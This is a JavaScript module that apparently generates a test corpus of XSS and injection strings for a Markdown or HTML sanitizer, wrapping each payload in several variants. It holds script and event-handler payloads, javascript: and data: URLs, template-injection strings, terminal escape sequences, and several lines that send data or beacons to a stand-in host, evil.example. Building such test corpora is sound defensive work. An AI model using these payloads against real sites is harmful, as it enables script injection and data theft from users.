// Texts that would act if a page let them.
const acts = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">x</a>', '<body onload=alert(1)>', '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=p></form>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="//evil.example">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<video src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](vbscript:msgbox)',
  '![x](https://evil.example/beacon.png)', '![x](javascript:alert(1))', '[x]: javascript:alert(1)\n\n[x]', '<https://evil.example/">', '<javascript:alert(1)>',
  '[x](https://evil.example "onmouseover=alert(1)")', '[x](https://evil.example/\"onclick=alert(1))', '`<script>alert(1)</script>`', '```\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |', '> <svg/onload=alert(1)>', '- <img src=x onerror=alert(1)>', '# <script>alert(1)</script>',
  '</main><script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '--><script>alert(1)</script>', ']]><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 1 %>', '{% include "/etc/passwd" %}',
  '\u202egnp.exe', '\u001b]52;c;ZXZpbA==\u0007', '\u001b[31mred', '\u0000<script>alert(1)</script>', '\ufeff<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr\u0000ipt>alert(1)</script>', '<a href="&#106;avascript:alert(1)">x</a>', '<img/src="x"/onerror=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<xmp><script>alert(1)</script></xmp>',
  '<dialog open onclose=alert(1)>x</dialog>',
];
const wraps = [(it) => it, (it) => `before ${it} after`, (it) => it.toUpperCase(), (it) => `> - ${it}`, (it) => `**${it}**\n\n${it}`];
export const corpus = acts.flatMap((it) => wraps.map((wrap) => wrap(it)));
